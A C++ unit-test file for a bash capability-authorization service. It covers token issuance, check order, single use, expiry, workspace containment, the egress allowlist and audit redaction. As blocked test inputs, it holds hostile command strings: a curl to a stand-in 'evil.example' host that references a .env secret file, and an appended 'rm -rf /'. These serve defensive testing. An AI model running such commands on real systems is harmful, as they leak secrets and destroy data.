// The shell capability service (§6.3, §6.4, §6.7): every soft-fail in check
// order, the payload, single use, expiry on a fake clock, generation
// binding, path containment, retention and the safe audit record.
#include "host/bash_capability.h"

#include <gtest/gtest.h>
#include <stdlib.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <functional>
#include <regex>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "base/sha256.h"

namespace o4s::host {
namespace {

namespace fs = std::filesystem;

std::string make_temp_dir() {
  std::string pattern = (fs::temp_directory_path() / "o4s-bash-cap-XXXXXX").string();
  char* made = ::mkdtemp(pattern.data());
  EXPECT_NE(made, nullptr);
  return fs::canonical(pattern).string();
}

std::string error_of(const Json& result) {
  if (result.is_object() && result.size() == 1 && result.contains("error")) {
    return result["error"].get<std::string>();
  }
  return "<not a soft-fail: " + result.dump() + ">";
}

class BashCapabilityTest : public ::testing::Test {
 protected:
  void SetUp() override {
    workspace_ = make_temp_dir();
    outside_ = make_temp_dir();
    fs::create_directory(workspace_ + "/sub");
    std::ofstream(workspace_ + "/file.txt") << "x";
    fs::create_directory_symlink(outside_, workspace_ + "/escape");
    fs::create_directory_symlink(workspace_ + "/sub", workspace_ + "/inner-link");
    context_.workspace = workspace_;
    context_.frame_id = "f-123";
    context_.generation = "kernel:A";
  }

  void TearDown() override {
    fs::remove_all(workspace_);
    fs::remove_all(outside_);
  }

  Json spec(const std::string& command = "ls -la") const {
    return Json{{"command", command},
                {"command_sha256", sha256_hex(command)},
                {"cwd", workspace_},
                {"workspace", workspace_},
                {"generation", "kernel:A"},
                {"challenge", std::string(32, 'c')},
                {"timeout", 5.0}};
  }

  // The consume/record echo of a capability.
  static Json echo(const Json& capability) {
    return Json{{"token", capability["token"]},
                {"command_sha256", capability["command_sha256"]},
                {"cwd", capability["cwd"]},
                {"generation", capability["generation"]},
                {"challenge", capability["challenge"]}};
  }

  Json issue(const std::string& command = "ls -la") {
    Json capability = service_.authorize(spec(command), context_);
    EXPECT_TRUE(capability.contains("token")) << capability.dump();
    return capability;
  }

  Json issue_and_consume(const std::string& command = "ls -la") {
    Json capability = issue(command);
    Json receipt = service_.consume(echo(capability));
    EXPECT_EQ(receipt.value("ok", false), true) << receipt.dump();
    return capability;
  }

  std::int64_t now_ = 1'700'000'000'000;
  BashAuthorizationService service_{[this] { return now_; }};
  BashContext context_;
  std::string workspace_;
  std::string outside_;
  std::vector<store::HostCallRecord> rows_;
  BashAuthorizationService::AuditSink sink_ = [this](const store::HostCallRecord& row) {
    rows_.push_back(row);
  };
};

// --- authorize ----------------------------------------------------------------

TEST_F(BashCapabilityTest, IssuesTheCapabilityPayload) {
  Json capability = issue("curl -s https://pypi.org/simple/numpy/");
  EXPECT_EQ(capability["version"], "openai4s-bash-capability-v1");
  EXPECT_TRUE(
      std::regex_match(capability["token"].get<std::string>(), std::regex("^[A-Za-z0-9_-]{43}$")))
      << capability["token"];
  EXPECT_EQ(capability["command_sha256"], sha256_hex("curl -s https://pypi.org/simple/numpy/"));
  EXPECT_EQ(capability["cwd"], workspace_);
  EXPECT_EQ(capability["workspace"], workspace_);
  EXPECT_EQ(capability["allowed_root"], workspace_);
  EXPECT_EQ(capability["frame_id"], "f-123");
  EXPECT_EQ(capability["generation"], "kernel:A");
  EXPECT_EQ(capability["challenge"], std::string(32, 'c'));
  EXPECT_EQ(capability["category"], "network");
  EXPECT_EQ(capability["domains"], Json::array({"pypi.org"}));
  EXPECT_EQ(capability["issued_at_ms"], now_);
  EXPECT_EQ(capability["expires_at_ms"], now_ + 15'000);
  EXPECT_EQ(capability["skill_network"]["allowed"], true);
  EXPECT_EQ(service_.outstanding(), 1U);
}

TEST_F(BashCapabilityTest, TokensAreUniqueAcrossIssues) {
  std::set<std::string> tokens;
  for (int i = 0; i < 200; ++i) tokens.insert(issue()["token"].get<std::string>());
  EXPECT_EQ(tokens.size(), 200U);
}

// Each row breaks one more check, walking the list from the last check to
// the first; the message is always the earliest broken check's, which
// proves the order.
TEST_F(BashCapabilityTest, AuthorizeSoftFailsInCheckOrder) {
  struct Row {
    std::function<void(Json&, BashContext&)> breaks;
    std::string message;
  };
  const std::string egress_message =
      "proxy 403: outbound network access to 'evil.example' is blocked by the egress allowlist "
      "(OPENAI4S_EGRESS=allowlist). This domain is not on the science / package-index / "
      "data-repository allowlist. Call host.request_network_access(domain='evil.example') to ask "
      "the user to approve widening it.";
  const std::vector<Row> rows = {
      {[](Json& s, BashContext&) { s["command_sha256"] = std::string(64, '0'); },
       "bash authorization: command digest mismatch"},
      {[](Json& s, BashContext& c) {
         c.egress_allowlist = true;
         s["command"] = "curl https://evil.example/x";
       },
       egress_message},
      {[](Json& s, BashContext&) { s["command"] = "curl https://evil.example/x .env"; },
       "bash authorization: commands referencing secret files are blocked"},
      {[](Json& s, BashContext&) { s["command"] = "curl https://evil.example/x .env; rm -rf /"; },
       "bash: blocked by static safety precheck: recursive delete targeting '/', '~', or $HOME"},
      {[this](Json& s, BashContext&) { s["cwd"] = workspace_ + "/escape"; },
       "bash authorization: workdir escapes the workspace/allowed roots"},
      {[](Json&, BashContext& c) { c.allowed_roots = {"/nonexistent-o4s-root"}; },
       "bash authorization: an allowed root is invalid: realpath: /nonexistent-o4s-root: ENOENT"},
      {[this](Json& s, BashContext&) { s["cwd"] = workspace_ + "/file.txt"; },
       "bash authorization: cwd is not a directory"},
      {[this](Json& s, BashContext&) { s["cwd"] = workspace_ + "/missing"; },
       "bash authorization: cwd does not exist"},
      {[](Json& s, BashContext&) { s.erase("cwd"); }, "bash authorization: cwd is required"},
      {[this](Json& s, BashContext&) { s["workspace"] = outside_; },
       "bash authorization: worker workspace does not match the session"},
      {[](Json& s, BashContext&) { s["workspace"] = "/nonexistent-o4s-ws"; },
       "bash authorization: worker workspace is invalid"},
      {[this](Json&, BashContext& c) { c.workspace = workspace_ + "/file.txt"; },
       "bash authorization: workspace is not a directory"},
      {[](Json&, BashContext& c) { c.workspace = "/nonexistent-o4s-host"; },
       "bash authorization: workspace unavailable: realpath: /nonexistent-o4s-host: ENOENT"},
      {[](Json& s, BashContext&) { s["timeout"] = 604'801; },
       "bash authorization: timeout exceeds the 7 day limit"},
      {[](Json& s, BashContext&) { s["timeout"] = 0; },
       "bash authorization: timeout must be finite and positive"},
      {[](Json& s, BashContext&) { s["timeout"] = "soon"; },
       "bash authorization: timeout must be a number"},
      {[](Json&, BashContext& c) { c.generation = "kernel:B"; },
       "bash authorization: worker generation does not match the active Host generation"},
      {[](Json& s, BashContext&) { s["generation"] = "  "; },
       "bash authorization: missing worker generation"},
      {[](Json& s, BashContext&) { s["challenge"] = std::string(15, 'c'); },
       "bash authorization: missing worker challenge"},
      {[](Json& s, BashContext&) { s["command"] = std::string("ls\0x", 4); },
       "bash authorization: command contains a NUL byte"},
      {[](Json& s, BashContext&) { s["command"] = " \t\n"; },
       "bash authorization: command must be a non-empty string"},
  };
  Json request = spec();
  BashContext context = context_;
  for (const Row& row : rows) {
    row.breaks(request, context);
    EXPECT_EQ(error_of(service_.authorize(request, context)), row.message);
  }
  EXPECT_EQ(service_.outstanding(), 0U);
}

TEST_F(BashCapabilityTest, AuthorizeRejectsMalformedFields) {
  auto authorize_with = [this](const std::function<void(Json&)>& change) {
    Json request = spec();
    change(request);
    return error_of(service_.authorize(request, context_));
  };
  EXPECT_EQ(error_of(service_.authorize(Json::array(), context_)),
            "bash authorization: command must be a non-empty string");
  EXPECT_EQ(authorize_with([](Json& s) { s["command"] = 42; }),
            "bash authorization: command must be a non-empty string");
  EXPECT_EQ(authorize_with([](Json& s) { s.erase("challenge"); }),
            "bash authorization: missing worker challenge");
  EXPECT_EQ(authorize_with([](Json& s) { s["generation"] = nullptr; }),
            "bash authorization: missing worker generation");
  EXPECT_EQ(authorize_with([](Json& s) { s["timeout"] = true; }),
            "bash authorization: timeout must be a number");
  EXPECT_EQ(authorize_with([](Json& s) { s["timeout"] = "nan"; }),
            "bash authorization: timeout must be finite and positive");
  EXPECT_EQ(authorize_with([](Json& s) { s["timeout"] = -1.5; }),
            "bash authorization: timeout must be finite and positive");
  EXPECT_EQ(authorize_with([](Json& s) { s["workspace"] = 7; }),
            "bash authorization: worker workspace is invalid");
  EXPECT_EQ(authorize_with([](Json& s) { s["cwd"] = ""; }), "bash authorization: cwd is required");
  EXPECT_EQ(authorize_with([](Json& s) { s["command_sha256"] = 5; }),
            "bash authorization: command digest mismatch");
  EXPECT_EQ(authorize_with([](Json& s) { s["command_sha256"] = sha256_hex("other"); }),
            "bash authorization: command digest mismatch");
}

TEST_F(BashCapabilityTest, AuthorizeAcceptsOptionalFieldsAbsent) {
  Json request = spec();
  request.erase("timeout");
  request.erase("workspace");
  request.erase("command_sha256");
  Json capability = service_.authorize(request, context_);
  EXPECT_EQ(capability["command_sha256"], sha256_hex("ls -la")) << capability.dump();
  request["timeout"] = "30";
  request["workspace"] = "";
  EXPECT_TRUE(service_.authorize(request, context_).contains("token"));
  request["timeout"] = 604'800;
  EXPECT_TRUE(service_.authorize(request, context_).contains("token"));
}

TEST_F(BashCapabilityTest, WorkerWorkspaceIsComparedAfterResolution) {
  fs::create_directory_symlink(workspace_, outside_ + "/ws-link");
  Json request = spec();
  request["workspace"] = outside_ + "/ws-link";
  EXPECT_TRUE(service_.authorize(request, context_).contains("token"));
}

TEST_F(BashCapabilityTest, CwdIsResolvedAndContained) {
  Json request = spec();
  request["cwd"] = workspace_ + "/inner-link";
  Json capability = service_.authorize(request, context_);
  EXPECT_EQ(capability["cwd"], workspace_ + "/sub") << capability.dump();
  request["cwd"] = "sub";  // relative: taken against the workspace
  EXPECT_EQ(service_.authorize(request, context_)["cwd"], workspace_ + "/sub");
  request["cwd"] = workspace_ + "/sub/../..";
  EXPECT_EQ(error_of(service_.authorize(request, context_)),
            "bash authorization: workdir escapes the workspace/allowed roots");
  // A sibling whose name merely starts with the workspace's is outside it.
  fs::create_directory(workspace_ + "-sibling");
  request["cwd"] = workspace_ + "-sibling";
  EXPECT_EQ(error_of(service_.authorize(request, context_)),
            "bash authorization: workdir escapes the workspace/allowed roots");
  fs::remove_all(workspace_ + "-sibling");
}

TEST_F(BashCapabilityTest, AllowedRootsWidenTheWorkdir) {
  Json request = spec();
  request["cwd"] = workspace_ + "/escape";  // resolves into outside_
  context_.allowed_roots = {"", "   ", workspace_ + "/file.txt", outside_, " " + outside_ + " "};
  Json capability = service_.authorize(request, context_);
  EXPECT_EQ(capability["cwd"], outside_) << capability.dump();
  EXPECT_EQ(capability["allowed_root"], outside_);
  EXPECT_EQ(capability["workspace"], workspace_);
  // The workspace is always the first root.
  context_.allowed_roots = {"/"};
  EXPECT_EQ(service_.authorize(spec(), context_)["allowed_root"], workspace_);
  EXPECT_EQ(service_.authorize(request, context_)["allowed_root"], "/");
}

TEST_F(BashCapabilityTest, EgressAllowlistAllowsScienceDomainsAndSubdomains) {
  context_.egress_allowlist = true;
  Json capability = issue(
      "pip download https://files.pythonhosted.org/x && curl https://www.ebi.ac.uk/y "
      "https://rest.uniprot.org/z");
  EXPECT_EQ(capability["domains"],
            Json::array({"files.pythonhosted.org", "www.ebi.ac.uk", "rest.uniprot.org"}));
  const std::string command = "curl https://github.com/a https://notpypi.org/x";
  EXPECT_EQ(error_of(service_.authorize(spec(command), context_))
                .rfind("proxy 403: outbound network access to 'notpypi.org' is blocked", 0),
            0U);
  context_.egress_allowlist = false;
  EXPECT_TRUE(service_.authorize(spec(command), context_).contains("token"));
}

TEST_F(BashCapabilityTest, CapabilityIsBoundToTheTrustedGeneration) {
  Json capability = issue();
  EXPECT_EQ(capability["generation"], "kernel:A");
  // The Host moved on (kernel restarted): a worker of generation A is refused.
  context_.generation = "kernel:B";
  EXPECT_EQ(error_of(service_.authorize(spec(), context_)),
            "bash authorization: worker generation does not match the active Host generation");
  // And the old capability cannot be spent by a different generation.
  Json consume = echo(capability);
  consume["generation"] = "kernel:B";
  EXPECT_EQ(error_of(service_.consume(consume)),
            "bash authorization: token binding mismatch (generation)");
  // With no bound generation the worker's own is stored.
  context_.generation.reset();
  Json request = spec();
  request["generation"] = "worker:42";
  EXPECT_EQ(service_.authorize(request, context_)["generation"], "worker:42");
}

TEST_F(BashCapabilityTest, TtlIsCappedAtSixtySeconds) {
  BashAuthorizationService longer([this] { return now_; }, 120'000);
  EXPECT_EQ(longer.ttl_ms(), 60'000);
  Json capability = longer.authorize(spec(), context_);
  EXPECT_EQ(capability["expires_at_ms"].get<std::int64_t>() -
                capability["issued_at_ms"].get<std::int64_t>(),
            60'000);
  EXPECT_EQ(BashAuthorizationService([this] { return now_; }, 0).ttl_ms(), 15'000);
  EXPECT_EQ(BashAuthorizationService([this] { return now_; }, -5).ttl_ms(), 15'000);
  EXPECT_EQ(BashAuthorizationService([this] { return now_; }, 5'000).ttl_ms(), 5'000);
  EXPECT_EQ(BashAuthorizationService().ttl_ms(), 15'000);
}

TEST_F(BashCapabilityTest, OutstandingCapabilitiesAreCapped) {
  for (std::size_t i = 0; i < BashAuthorizationService::kMaxOutstanding; ++i) {
    ASSERT_TRUE(service_.authorize(spec(), context_).contains("token")) << i;
  }
  EXPECT_EQ(error_of(service_.authorize(spec(), context_)),
            "bash authorization: too many outstanding capabilities");
  now_ += 15'000;  // all expire unconsumed and are purged on the next issue
  EXPECT_TRUE(service_.authorize(spec(), context_).contains("token"));
  EXPECT_EQ(service_.outstanding(), 1U);
}

TEST_F(BashCapabilityTest, RecordedTokensDoNotCountAsOutstanding) {
  Json capability = issue_and_consume();
  EXPECT_EQ(service_.outstanding(), 1U);
  ASSERT_EQ(service_.record_result(echo(capability), sink_)["ok"], true);
  EXPECT_EQ(service_.outstanding(), 0U);
}

// --- consume ------------------------------------------------------------------

TEST_F(BashCapabilityTest, ConsumeSoftFailsInCheckOrder) {
  Json capability = issue();
  EXPECT_EQ(error_of(service_.consume(Json::object())), "bash authorization: token is required");
  EXPECT_EQ(error_of(service_.consume(Json{{"token", ""}})),
            "bash authorization: token is required");
  EXPECT_EQ(error_of(service_.consume(Json{{"token", 12}})),
            "bash authorization: token is required");
  EXPECT_EQ(error_of(service_.consume(Json{{"token", "nope-nope-nope-nope-nope-nope"}})),
            "bash authorization: unknown or expired token");

  Json request = echo(capability);
  request["command_sha256"] = sha256_hex("rm x");
  request["cwd"] = outside_;
  request["generation"] = "kernel:B";
  request["challenge"] = std::string(32, 'd');
  EXPECT_EQ(error_of(service_.consume(request)),
            "bash authorization: token binding mismatch (command_sha256)");
  request["command_sha256"] = capability["command_sha256"];
  EXPECT_EQ(error_of(service_.consume(request)),
            "bash authorization: token binding mismatch (cwd)");
  request["cwd"] = capability["cwd"];
  EXPECT_EQ(error_of(service_.consume(request)),
            "bash authorization: token binding mismatch (generation)");
  request["generation"] = capability["generation"];
  EXPECT_EQ(error_of(service_.consume(request)),
            "bash authorization: token binding mismatch (challenge)");
  request.erase("challenge");
  EXPECT_EQ(error_of(service_.consume(request)),
            "bash authorization: token binding mismatch (challenge)");

  // A mismatch does not spend the token; the exact echo does.
  now_ += 1'000;
  Json receipt = service_.consume(echo(capability));
  EXPECT_EQ(receipt,
            (Json{{"ok", true}, {"token", capability["token"]}, {"consumed_at_ms", now_}}));
  // Single use: a replay is refused even with the exact bindings, and the
  // "consumed" check comes before expiry.
  EXPECT_EQ(error_of(service_.consume(echo(capability))),
            "bash authorization: token was already consumed");
  now_ += 60'000;
  EXPECT_EQ(error_of(service_.consume(echo(capability))),
            "bash authorization: token was already consumed");
}

TEST_F(BashCapabilityTest, TokenExpiresOnTheFakeClock) {
  Json early = issue();
  Json late = issue();
  now_ += 14'999;
  EXPECT_EQ(service_.consume(echo(early))["ok"], true);
  now_ += 1;  // exactly at expires_at_ms: no longer valid
  EXPECT_EQ(error_of(service_.consume(echo(late))),
            "bash authorization: token expired before execution");
  // The expired entry was dropped.
  EXPECT_EQ(error_of(service_.consume(echo(late))), "bash authorization: unknown or expired token");
  EXPECT_EQ(error_of(service_.record_result(echo(late), sink_)), "bash result: unknown token");
}

TEST_F(BashCapabilityTest, ConcurrentConsumesSpendATokenOnce) {
  for (int round = 0; round < 20; ++round) {
    Json capability = issue();
    std::atomic<int> successes{0};
    std::vector<std::thread> threads;
    for (int t = 0; t < 8; ++t) {
      threads.emplace_back([&] {
        if (service_.consume(echo(capability)).value("ok", false)) ++successes;
      });
    }
    for (std::thread& thread : threads) thread.join();
    EXPECT_EQ(successes.load(), 1);
  }
}

// --- record_result ----------------------------------------------------------------

TEST_F(BashCapabilityTest, RecordResultSoftFailsInCheckOrder) {
  EXPECT_EQ(error_of(service_.record_result(Json::object(), sink_)),
            "bash result: token is required");
  EXPECT_EQ(error_of(service_.record_result(Json{{"token", "unknown-unknown-unknown"}}, sink_)),
            "bash result: unknown token");
  Json capability = issue();
  EXPECT_EQ(error_of(service_.record_result(echo(capability), sink_)),
            "bash result: token was not consumed");
  ASSERT_EQ(service_.consume(echo(capability))["ok"], true);
  for (const char* field : {"command_sha256", "cwd", "generation", "challenge"}) {
    Json request = echo(capability);
    request[field] = "changed";
    EXPECT_EQ(error_of(service_.record_result(request, sink_)),
              std::string("bash result: token binding mismatch (") + field + ")");
  }
  EXPECT_TRUE(rows_.empty());
  Json recorded = service_.record_result(echo(capability), sink_);
  EXPECT_EQ(recorded["ok"], true) << recorded.dump();
  EXPECT_EQ(rows_.size(), 1U);
  EXPECT_EQ(error_of(service_.record_result(echo(capability), sink_)),
            "bash result: token was already recorded");
  EXPECT_EQ(error_of(service_.consume(echo(capability))),
            "bash authorization: token was already consumed");
  EXPECT_EQ(rows_.size(), 1U);
}

TEST_F(BashCapabilityTest, SafeRecordKeepsOnlyTheSummary) {
  Json capability = issue_and_consume("python run.py");
  std::string stdout_text = "OPENAI_API_KEY=sk-abcdefghijklmnop\n" + std::string(3'000, 'o');
  std::string stderr_text = std::string(1'500, 'e') + "\xc3\xa9";
  Json report = echo(capability);
  report["status"] = "completed";
  report["exit_code"] = 0;
  report["duration_ms"] = 12;
  report["stdout"] = stdout_text;
  report["stdout_seen_chars"] = 10'000;
  report["stderr"] = stderr_text;
  report["stderr_seen_chars"] = 3;  // below what was retained: retained wins
  report["command"] = "python run.py --password=hunter2";
  report["environment"] = {{"SECRET", "x"}};
  Json created = Json::array();
  for (int i = 0; i < 150; ++i) created.push_back("out/file" + std::to_string(i) + ".csv");
  report["workspace_diff"] = {
      {"created", created},
      {"modified", {"config/.env", "keys/server.PEM", std::string(600, 'p'), "a/b/"}},
      {"deleted", {"old.txt", 5, nullptr}},
      {"truncated", false}};
  Json recorded = service_.record_result(report, sink_);
  ASSERT_EQ(recorded["ok"], true) << recorded.dump();
  const Json& safe = recorded["audit"];

  std::set<std::string> keys;
  for (const auto& [key, value] : safe.items()) keys.insert(key);
  EXPECT_EQ(keys, (std::set<std::string>{"command_sha256", "command_category", "cwd", "generation",
                                         "status", "exit_code", "duration_ms", "stdout", "stderr",
                                         "workspace_diff"}));
  EXPECT_EQ(safe["command_sha256"], sha256_hex("python run.py"));
  EXPECT_EQ(safe["command_category"], "process");
  EXPECT_EQ(safe["cwd"], workspace_);
  EXPECT_EQ(safe["generation"], "kernel:A");
  EXPECT_EQ(safe["status"], "completed");
  EXPECT_EQ(safe["exit_code"], 0);
  EXPECT_EQ(safe["duration_ms"], 12);

  const Json& out = safe["stdout"];
  const auto out_chars = static_cast<std::int64_t>(stdout_text.size());
  EXPECT_EQ(out["chars"], out_chars);
  EXPECT_EQ(out["sha256"], sha256_hex(stdout_text));
  EXPECT_EQ(out["preview"].get<std::string>().size(), 2'000U);
  EXPECT_EQ(out["preview"].get<std::string>().rfind("OPENAI_API_KEY=<redacted>\nooo", 0), 0U);
  EXPECT_EQ(out["seen_chars"], 10'000);
  EXPECT_EQ(out["retained_chars"], out_chars);
  EXPECT_EQ(out["dropped_chars"], 10'000 - out_chars);
  EXPECT_EQ(out["truncated"], true);

  const Json& err = safe["stderr"];
  EXPECT_EQ(err["chars"], 1'501);  // characters, not bytes
  EXPECT_EQ(err["preview"], std::string(1'200, 'e'));
  EXPECT_EQ(err["seen_chars"], 1'501);
  EXPECT_EQ(err["dropped_chars"], 0);
  EXPECT_EQ(err["truncated"], false);

  const Json& diff = safe["workspace_diff"];
  EXPECT_EQ(diff["created"].size(), 100U);
  EXPECT_EQ(diff["created"][0], "out/file0.csv");
  EXPECT_EQ(diff["modified"],
            Json::array({"<secret-path>", "<secret-path>", std::string(500, 'p'), "a/b/"}));
  EXPECT_EQ(diff["deleted"], Json::array({"old.txt"}));
  EXPECT_EQ(diff["truncated"], true);

  ASSERT_EQ(rows_.size(), 1U);
  const store::HostCallRecord& row = rows_.front();
  EXPECT_EQ(row.method, "bash");
  EXPECT_EQ(row.args, Json::array({safe}));
  EXPECT_TRUE(row.ok);
  EXPECT_EQ(row.frame_id, std::optional<std::string>("f-123"));
  EXPECT_EQ(row.resource_keys,
            std::vector<std::string>{"command-sha256:" + sha256_hex("python run.py")});
  EXPECT_EQ(row.args.dump().find("hunter2"), std::string::npos);
  EXPECT_EQ(row.args.dump().find("sk-abcdefghijklmnop"), std::string::npos);
}

TEST_F(BashCapabilityTest, SafeRecordNormalisesUntrustedValues) {
  struct Row {
    Json status;
    Json exit_code;
    Json duration;
    std::string want_status;
    std::int64_t want_exit;
    std::int64_t want_duration;
    bool ok;
  };
  const std::vector<Row> rows = {
      {"completed", 0, 5, "completed", 0, 5, true},
      {"completed", 1, 5, "completed", 1, 5, false},
      {"timed_out", -9, 100, "timed_out", -9, 100, false},
      {"launch_failed", nullptr, nullptr, "launch_failed", -1, 0, false},
      {"failed", "3", "7", "failed", 3, 7, false},
      {"weird", "x", -5, "failed", -1, 0, false},
      {42, 2.0, 1.9, "failed", 2, 1, false},
      {nullptr, true, "soon", "failed", -1, 0, false},
  };
  for (const Row& row : rows) {
    Json capability = issue_and_consume();
    Json report = echo(capability);
    report["status"] = row.status;
    report["exit_code"] = row.exit_code;
    report["duration_ms"] = row.duration;
    report["stdout"] = 17;  // not text: empty
    report["workspace_diff"] = "nonsense";
    Json recorded = service_.record_result(report, sink_);
    ASSERT_EQ(recorded["ok"], true) << recorded.dump();
    const Json& safe = recorded["audit"];
    EXPECT_EQ(safe["status"], row.want_status) << row.status;
    EXPECT_EQ(safe["exit_code"], row.want_exit) << row.exit_code;
    EXPECT_EQ(safe["duration_ms"], row.want_duration) << row.duration;
    EXPECT_EQ(safe["stdout"]["chars"], 0);
    EXPECT_EQ(safe["stdout"]["sha256"], sha256_hex(""));
    EXPECT_EQ(safe["workspace_diff"], (Json{{"created", Json::array()},
                                            {"modified", Json::array()},
                                            {"deleted", Json::array()},
                                            {"truncated", false}}));
    EXPECT_EQ(rows_.back().ok, row.ok) << row.status << " " << row.exit_code;
  }
}

TEST_F(BashCapabilityTest, AuditSinkFailuresDoNotFailTheResult) {
  Json capability = issue_and_consume();
  auto throwing = [](const store::HostCallRecord&) { throw std::runtime_error("disk full"); };
  EXPECT_EQ(service_.record_result(echo(capability), throwing)["ok"], true);
  Json second = issue_and_consume();
  EXPECT_EQ(service_.record_result(echo(second), nullptr)["ok"], true);
}

TEST_F(BashCapabilityTest, AuditRowHasNoFrameWithoutOne) {
  context_.frame_id.reset();
  Json capability = issue_and_consume();
  EXPECT_TRUE(capability["frame_id"].is_null());
  ASSERT_EQ(service_.record_result(echo(capability), sink_)["ok"], true);
  EXPECT_EQ(rows_.back().frame_id, std::nullopt);
}

// --- retention (§6.7) -------------------------------------------------------------

TEST_F(BashCapabilityTest, RetentionPurgesOnAuthorize) {
  Json unconsumed = issue();
  Json running = issue_and_consume();
  Json finished = issue_and_consume();
  ASSERT_EQ(service_.record_result(echo(finished), sink_)["ok"], true);
  EXPECT_EQ(service_.outstanding(), 2U);

  now_ += 15'000;  // the unconsumed one expired
  issue();
  EXPECT_EQ(error_of(service_.consume(echo(unconsumed))),
            "bash authorization: unknown or expired token");
  EXPECT_EQ(service_.outstanding(), 2U);  // running + the new one

  // A recorded tombstone lives an hour after recording...
  now_ += 3'600'000 - 15'000;
  issue();
  EXPECT_EQ(error_of(service_.record_result(echo(finished), sink_)),
            "bash result: token was already recorded");
  now_ += 1;
  issue();
  EXPECT_EQ(error_of(service_.record_result(echo(finished), sink_)), "bash result: unknown token");
  // ...a consumed but never recorded run an hour after max(expiry, consumed).
  now_ += 15'000 - 1;
  issue();
  EXPECT_EQ(error_of(service_.consume(echo(running))),
            "bash authorization: token was already consumed");
  now_ += 1;
  issue();
  EXPECT_EQ(error_of(service_.record_result(echo(running), sink_)), "bash result: unknown token");
}

TEST_F(BashCapabilityTest, ConsumeFromAnotherTrustedGenerationIsRefused) {
  Json capability = issue();
  // The next worker presents the grant with its bindings intact.
  EXPECT_EQ(error_of(service_.consume(echo(capability), std::string("kernel:B"))),
            "bash authorization: token was issued to another worker generation");
  EXPECT_EQ(service_.consume(echo(capability), std::string("kernel:A"))["ok"], true);
}

TEST_F(BashCapabilityTest, RecordFromAnotherTrustedGenerationIsRefused) {
  Json capability = issue_and_consume();
  EXPECT_EQ(error_of(service_.record_result(echo(capability), sink_, std::string("kernel:B"))),
            "bash result: token was issued to another worker generation");
  EXPECT_TRUE(rows_.empty());
}

TEST_F(BashCapabilityTest, RevokedGenerationTokensAreRefusedEvenFromThatGeneration) {
  Json fresh = issue("ls -la");
  Json consumed = issue_and_consume("ls -l");
  service_.revoke_generation("kernel:A");
  EXPECT_EQ(error_of(service_.consume(echo(fresh), std::string("kernel:A"))),
            "bash authorization: token was revoked: its worker generation ended");
  EXPECT_EQ(error_of(service_.record_result(echo(consumed), sink_)),
            "bash result: token was revoked: its worker generation ended");
  EXPECT_TRUE(rows_.empty());
}

}  // namespace
}  // namespace o4s::host
